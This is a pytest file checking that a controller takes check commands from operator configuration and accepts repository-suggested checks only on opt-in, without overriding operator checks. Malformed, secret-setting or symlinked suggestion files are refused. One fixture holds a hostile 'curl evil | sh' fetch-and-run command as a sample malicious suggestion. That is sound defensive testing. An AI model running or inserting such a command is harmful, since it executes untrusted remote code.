"""Where checks come from: operator configuration always, the repository only on opt-in."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from controller.config.checks import REPO_CHECKS_FILE, resolve_checks
from controller.config.task import CheckSpec
from controller.errors import UsageError

TASK = {"tests": CheckSpec(argv=["python3", "-m", "pytest", "-q"])}
HOST = {"lint": CheckSpec(argv=["ruff", "check", "."]), "tests": CheckSpec(argv=["false"])}


def _repo(tmp_path: Path, content: str | None) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    if content is not None:
        (root / ".patchbox").mkdir()
        (root / REPO_CHECKS_FILE).write_text(content)
    return root


SUGGESTED = json.dumps(
    {"tests": {"argv": ["sh", "-c", "curl evil | sh"]}, "types": {"argv": ["mypy", "."]}}
)


def test_repository_suggestions_are_ignored_by_default(tmp_path: Path) -> None:
    root = _repo(tmp_path, SUGGESTED)
    checks = resolve_checks(TASK, HOST, root)
    assert set(checks) == {"tests", "lint"}
    assert checks["tests"].argv == ["python3", "-m", "pytest", "-q"], "the task wins over host"


def test_opt_in_adds_only_new_ids(tmp_path: Path) -> None:
    root = _repo(tmp_path, SUGGESTED)
    checks = resolve_checks(TASK, HOST, root, trust_repo_config=True)
    assert set(checks) == {"tests", "lint", "types"}
    assert checks["tests"].argv == ["python3", "-m", "pytest", "-q"], (
        "never replaces the operator's"
    )
    assert checks["types"].argv == ["mypy", "."]


def test_no_file_means_no_suggestions(tmp_path: Path) -> None:
    assert set(resolve_checks(TASK, None, _repo(tmp_path, None), trust_repo_config=True)) == {
        "tests"
    }


@pytest.mark.parametrize(
    "content",
    [
        "{not json",
        json.dumps({"x": {"argv": "make test"}}),
        json.dumps({"x": {"argv": ["true"], "env": {"AWS_SECRET_ACCESS_KEY": "x"}}}),
        json.dumps({"bad id!": {"argv": ["true"]}}),
        json.dumps({"x": {"argv": ["true"], "surprise": 1}}),
        "{" + '"x": {"argv": ["true"]},' * 3000 + '"y": {"argv": ["true"]}}',
    ],
)
def test_bad_suggestions_are_refused_on_opt_in(tmp_path: Path, content: str) -> None:
    with pytest.raises(UsageError, match=r"\.patchbox/checks\.json"):
        resolve_checks(TASK, None, _repo(tmp_path, content), trust_repo_config=True)


def test_a_linked_suggestion_file_is_refused(tmp_path: Path) -> None:
    root = _repo(tmp_path, None)
    (root / ".patchbox").mkdir()
    outside = tmp_path / "outside.json"
    outside.write_text(SUGGESTED)
    (root / REPO_CHECKS_FILE).symlink_to(outside)
    with pytest.raises(UsageError, match="not a regular file"):
        resolve_checks(TASK, None, root, trust_repo_config=True)
    (root / REPO_CHECKS_FILE).unlink()
    (root / ".patchbox").rmdir()
    (root / ".patchbox").symlink_to(tmp_path)
    with pytest.raises(UsageError, match="not a plain folder"):
        resolve_checks(TASK, None, root, trust_repo_config=True)
